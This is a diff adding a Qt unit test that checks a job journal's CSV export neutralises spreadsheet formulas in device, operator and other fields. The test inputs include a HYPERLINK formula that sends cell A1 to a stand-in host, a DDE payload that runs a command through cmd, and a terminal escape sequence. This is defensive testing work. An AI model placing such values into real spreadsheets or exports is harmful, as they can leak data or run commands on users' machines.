@@ -43,6 +43,7 @@ private Q_SLOTS:
     void unrecordedModeChangeIsNotMade();
     void queries();
     void csvQuoting();
+    void csvNeutralisesFormulas();
     void historyCommand();
 
 private:
@@ -542,6 +543,24 @@ void TestJobJournal::csvQuoting()
     QFile written(file);
     QVERIFY(written.open(QIODevice::ReadOnly));
     QCOMPARE(QString::fromUtf8(written.readAll()), csv);
+}
+
+// A device ID is scanned or typed; in a spreadsheet it must stay text, never become a live formula.
+void TestJobJournal::csvNeutralisesFormulas()
+{
+    JobJournal::Job job;
+    job.id = 8;
+    job.deviceId = QStringLiteral("=HYPERLINK(\"http://example.invalid/\"&A1,\"open\")");
+    job.operatorName = QStringLiteral("@SUM(1+1)");
+    job.station = QStringLiteral("+bench");
+    job.port = QStringLiteral("-1+2");
+    job.error = QStringLiteral("\x1b]0;title\x07");
+    job.topics = {QStringLiteral("=cmd|' /C calc'!A0")};
+    const QString csv = JobJournal::toCsv({job});
+    const QString row = csv.section(QLatin1String("\r\n"), 1, 1);
+    QCOMPARE(row, QStringLiteral(",,,'@SUM(1+1),'+bench,'-1+2,,0,"
+                                 "\"'=HYPERLINK(\"\"http://example.invalid/\"\"&A1,\"\"open\"\")\",,,,"
+                                 "\\x1b]0;title\\x07,,'=cmd|' /C calc'!A0").prepend(QStringLiteral("8")));
 }
 
 // history as a process, on the journal provision wrote as a process.
